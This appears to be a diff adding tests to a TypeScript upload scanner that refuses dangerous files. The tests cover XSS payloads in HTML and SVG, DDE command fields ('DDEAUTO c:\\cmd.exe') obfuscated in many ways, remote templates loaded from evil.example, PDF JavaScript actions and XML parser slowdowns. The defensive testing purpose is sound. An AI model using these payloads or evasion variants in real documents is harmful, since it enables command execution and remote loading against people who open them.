@@ -110,6 +110,9 @@ test('knowledge.upload SX44: a text is read as a browser would read it', async (
     '<meta http-equiv="refresh" content="0;url=http://evil.example">',
     '<script\n>alert(1)',
     '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+    '<svg><script href=//evil.example />',
+    '<svg><script xlink:href="data:,alert(1)" />',
+    `<iframe ${'y '.repeat(2_000)} src=//evil.example>`,
   ];
   for (const page of pages) assert.equal(await verdict('a.txt', `hello ${page} and more`), 'knowledge.active_refused', page.slice(0, 60));
   const fine = [
@@ -161,4 +164,72 @@ test('knowledge.upload SX44: a program under the name of a picture, and a part w
     ['two names', { name: 'word/a.xml', content: '<a/>', localName: 'word/vba.bin' }],
   ];
   for (const [what, part] of cases) assert.equal(await verdict('a.docx', docx([part])), 'knowledge.archive_refused', what);
+});
+
+const part = (content: string): Part => ({ name: 'word/header1.xml', content });
+const program = 'DDEAUTO c:\\\\cmd.exe';
+
+test('knowledge.upload SX44: a field of a document is read as a parser of XML reads it, however it is written', async () => {
+  const many = Array.from({ length: 30_000 }, (_, at) => `<w:r w:rsid="${(at * 7919).toString(16)}"/>`).join('');
+  const written: [string, string][] = [
+    ['behind blanks', `<w:instrText>${' '.repeat(5_000)}${program}</w:instrText>`],
+    ['marked as text', `<w:instrText><![CDATA[${program}]]></w:instrText>`],
+    ['with a comment inside', '<w:instrText>DD<!-- x -->EAUTO c:</w:instrText>'],
+    ['with an instruction inside', '<w:instrText>DD<?x y?>EAUTO c:</w:instrText>'],
+    ['under a long prefix', `<${'p'.repeat(40)}:instrText>${program}</${'p'.repeat(40)}:instrText>`],
+    ['under a prefix of other letters', `<é:instrText>${program}</é:instrText>`],
+    ['in a long tag', `<w:instrText x="${'y'.repeat(5_000)}">${program}</w:instrText>`],
+    ['behind a sign in quotes', `<w:instrText x="a>b">${program}</w:instrText>`],
+    ['in a long value', `<w:fldSimple w:instr="${' '.repeat(5_000)}${program}"/>`],
+    ['in pieces far apart', `<w:instrText>DDE</w:instrText>${many}<w:instrText>AUTO c:</w:instrText>`],
+    ['a picture behind a switch', '<w:instrText>INCLUDEPICTURE \\d "https://evil.example/a.png"</w:instrText>'],
+  ];
+  for (const [what, content] of written)
+    assert.equal(await verdict('a.docx', docx([part(`<w:hdr>${content}</w:hdr>`)])), 'knowledge.references_refused', what);
+  const picture: Part = {
+    name: 'word/media/a.png',
+    content: `<?xml version="1.0"?><w:document><w:instrText>${program}</w:instrText></w:document>`,
+  };
+  assert.equal(await verdict('a.docx', docx([picture])), 'knowledge.references_refused', 'in a part that is called a picture');
+  for (const content of [`<w:t>${program}</w:t>`, `<!-- <w:instrText>${program}</w:instrText> -->`, `<w:hdr>${many}</w:hdr>`])
+    assert.equal(await verdict('a.docx', docx([part(content)])), 'fine', content.slice(0, 60));
+  assert.equal(
+    await verdict('a.docx', docx([part(`<w:hdr x="${'y'.repeat(400_000)}`)])),
+    'knowledge.archive_refused',
+    'a tag without an end',
+  );
+});
+
+test('knowledge.upload SX44: nothing beside a relation of a document hides what it loads', async () => {
+  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/';
+  const chunk = `Id="a" Type="${type}aFChunk" Target="x.html"`;
+  const away = `Id="a" Type="${type}attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"`;
+  for (const content of [
+    `<Relationship ${chunk}/><!-- Type="x" -->`,
+    `<Relationship ${away}/><!-- TargetMode="Internal" -->`,
+    `<Relationship ${chunk} type="x"/>`,
+    `<Relationship ${chunk} x:Type="x"/>`,
+    `<é:Relationship ${chunk}/>`,
+    `<Relationship x=">" ${away}/>`,
+  ]) {
+    const relations: Part = { name: 'word/_rels/document.xml.rels', content: `<Relationships>${content}</Relationships>` };
+    assert.equal(await verdict('a.docx', docx([relations])), 'knowledge.references_refused', content);
+  }
+  const link = `<Relationship Id="a" Type="${type}hyperlink" Target="https://example.com" TargetMode="External"/>`;
+  const fine: Part = { name: 'word/_rels/document.xml.rels', content: `<Relationships>${link}<!-- ${away} --></Relationships>` };
+  assert.equal(await verdict('a.docx', docx([fine])), 'fine');
+});
+
+test('knowledge.upload SX44: a PDF whose script stands in a form or in a film is refused', async () => {
+  for (const said of ['/AcroForm << /XFA 5 0 R >>', '/OpenAction << /S /Rendition /OP 0 /JS (app.alert(1)) >>', '/S /Re#6edition'])
+    assert.equal(await verdict('a.pdf', pdf(`5 0 << ${said} >>`)), 'knowledge.active_refused', said);
+});
+
+test('knowledge.upload SX44: reading the XML of a document takes its length in time', async () => {
+  for (const piece of ['<a ', '<a b="', "<a '", '<!-- ', '<![CDATA[', '&#', 'a=', '<a/>', '<w:instrText>a ']) {
+    const before = process.cpuUsage();
+    await verdict('a.docx', docx([{ ...part(piece.repeat(Math.floor((8 * 1024 * 1024) / piece.length))), method: 8 }]));
+    const { user, system } = process.cpuUsage(before);
+    assert.ok(user + system < 6_000_000, `${piece} took ${user + system} µs`);
+  }
 });
